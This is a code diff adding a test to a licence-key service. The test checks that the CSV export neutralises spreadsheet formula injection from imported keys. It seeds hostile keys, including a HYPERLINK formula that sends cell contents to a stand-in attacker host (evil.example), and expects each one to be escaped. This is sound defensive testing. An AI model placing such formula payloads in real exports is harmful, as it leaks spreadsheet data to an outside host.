@@ -17,6 +17,7 @@ import {
 } from '@latchkey/contracts';
 import { activityLogs, licenseKeys } from '../../db/schema/index.ts';
 import { createManualClock } from '../../lib/clock.ts';
+import { sealLicenseKey } from './license-key-secrets.ts';
 import {
   createApplicationViaApi,
   createAppUserViaApi,
@@ -260,6 +261,34 @@ describe('owner API: licence keys and subscriptions', () => {
       `/api/applications/${applicationId}/licenses/export.csv?status=used`,
     );
     expect(none.body.trimEnd().split('\r\n')).toHaveLength(1);
+  });
+
+  it('defuses imported keys a spreadsheet would run as formulas', async () => {
+    const { applicationId, planId } = await newApplicationWithPlan();
+    const keys = await generateLicensesViaApi(testApp.app, owner, applicationId, {
+      planId,
+      count: 3,
+    });
+    // What a hostile KeyAuth export can carry as keys: the importer keeps any text as found.
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(1+1)', '-2+3'];
+    for (const [index, text] of hostile.entries()) {
+      await testApp.database.db
+        .update(licenseKeys)
+        .set({ keySealed: sealLicenseKey(text, testApp.config.serverSecret) })
+        .where(eq(licenseKeys.id, keys[index]!.id));
+    }
+    const response = await request('GET', `/api/applications/${applicationId}/licenses/export.csv`);
+    const lines = response.body.trimEnd().split('\r\n').slice(1);
+    const keyCells = lines.map((line) => line.slice(line.indexOf(',') + 1));
+    expect(
+      keyCells.some((cell) => cell.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1`)),
+    ).toBe(true);
+    expect(keyCells.some((cell) => cell.startsWith(`'@SUM(1+1),`))).toBe(true);
+    expect(keyCells.some((cell) => cell.startsWith(`'-2+3,`))).toBe(true);
+    // No cell of the file starts a formula.
+    for (const line of lines) {
+      for (const cell of line.split(',')) expect(cell, line).not.toMatch(/^"?[=+\-@]/);
+    }
   });
 
   it('exports every key once across its batches, however many there are', async () => {
